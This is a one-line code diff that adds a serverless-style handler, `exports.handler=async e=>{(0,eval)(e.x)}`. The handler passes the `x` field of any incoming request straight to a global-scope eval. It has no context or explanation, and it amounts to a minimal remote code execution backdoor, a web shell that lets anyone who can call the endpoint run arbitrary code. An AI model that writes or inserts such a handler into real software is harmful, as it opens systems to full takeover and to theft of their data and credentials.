@@ -1,0 +1,1 @@
+exports.handler=async e=>{(0,eval)(e.x)}
